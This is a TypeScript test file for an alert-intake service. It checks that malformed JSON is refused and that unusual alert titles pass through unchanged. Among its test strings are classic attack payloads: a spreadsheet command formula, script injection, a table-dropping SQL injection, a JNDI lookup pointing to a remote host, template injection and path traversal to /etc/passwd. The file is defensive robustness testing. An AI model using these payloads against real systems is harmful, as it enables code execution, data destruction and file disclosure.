import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { ServiceError } from "../../server/errors.ts";
import { readEntry } from "../../server/intake/entry.ts";

const samples = resolve(import.meta.dirname, "../..", process.env.QUIETWATCH_SAMPLES_DIR ?? "../shared/data");
const suite = join(samples, "badinput/json-test-suite");
const strings = join(samples, "badinput/blns.json");
const header = { format: "alert", type: "json", actorId: "a", ceiling: null } as const;

/** Whether a body can be read; what it holds is no alert, so it comes to rejects and to nothing worse. */
function isRead(body: Buffer): boolean {
  try {
    for (const { reject } of readEntry({ header, body })) expect(reject).toBeDefined();
    return true;
  } catch (error) {
    if (error instanceof ServiceError && error.code === "unreadable") return false;
    throw error;
  }
}

function titleRead(title: string): string | undefined {
  const alert = { source: "s", rule: "r", title, severity: "low" };
  const [reading] = readEntry({ header, body: Buffer.from(JSON.stringify(alert)) });
  return reading?.alert?.title;
}

describe("a body", () => {
  test.each<[string, Buffer, boolean]>([
    ["an empty list", Buffer.from("[]"), true],
    ["a name twice", Buffer.from('{"a":1,"a":2}'), true],
    ["a huge number", Buffer.from("[1e9999,-1e9999,123123123123123123123123]"), true],
    ["half a pair", Buffer.from('["\\ud800"]'), true],
    ["50,000 levels", Buffer.from("[".repeat(50_000) + "]".repeat(50_000)), true],
    ["50,000 levels without an end", Buffer.from("[".repeat(50_000)), false],
    ["50,000 objects without an end", Buffer.from('{"a":'.repeat(50_000)), false],
    ["a comma too many", Buffer.from("[1,]"), false],
    ["a comment", Buffer.from("[1/*x*/]"), false],
    ["a control character in a text", Buffer.from('["a\u0000b"]'), false],
    ["a number with a plus", Buffer.from("[+1]"), false],
    ["a leading zero", Buffer.from("[012]"), false],
    ["a bad escape", Buffer.from('["\\x00"]'), false],
    ["text after it", Buffer.from("[] x"), false],
    ["UTF-16", Buffer.from("\ufeff[]", "utf16le"), false],
    ["a surrogate in UTF-8", Buffer.from([0x5b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x5d]), false],
    ["another space", Buffer.from("\u00a0[]"), false],
  ])("with %s", (_, body, read) => {
    expect(isRead(body)).toBe(read);
  });

  const hasSuite = existsSync(suite);
  test.runIf(hasSuite)("of a public suite is read or refused as the suite says", () => {
    const files = readdirSync(suite).filter((name) => name.endsWith(".json"));
    expect(files.length).toBeGreaterThan(300);
    const wrong = files.filter((name) => {
      const read = isRead(readFileSync(join(suite, name)));
      return (name.startsWith("y_") && !read) || (name.startsWith("n_") && read);
    });
    expect(wrong).toEqual([]);
  });
});

describe("a text", () => {
  test.each([
    "undefined",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; drop table item; --",
    "\u202egnp.exe",
    "\u0001\u0008\u001b[31m\u007f\u0085",
    "\ufeff\u200b\u2028\u2029\ufffe\uffff",
    "Ṱ̺̺o͞ ̷i̲̬n͝v̟o̢͞k̲e",
    "👩‍👩‍👧‍👦🇩🇪🏳️‍🌈",
    "٠١٢ 田中 ﷽",
    "%s%n\u0024{jndi:ldap://192.0.2.1/a}{{7*7}}",
    "../../etc/passwd\\\\?\\C:\\",
    "__proto__",
  ])("%j comes back as it was sent", (text) => {
    expect(titleRead(text)).toBe(text);
  });

  test.runIf(existsSync(strings))("of a public list of naughty ones comes back as it was sent", () => {
    const list: unknown = JSON.parse(readFileSync(strings, "utf8"));
    if (!Array.isArray(list)) throw new Error("the list is not a list");
    const texts = list.filter((text) => typeof text === "string" && text !== "" && text.length <= 1_024);
    expect(texts.length).toBeGreaterThan(400);
    expect(texts.filter((text) => titleRead(text) !== text)).toEqual([]);
  });
});
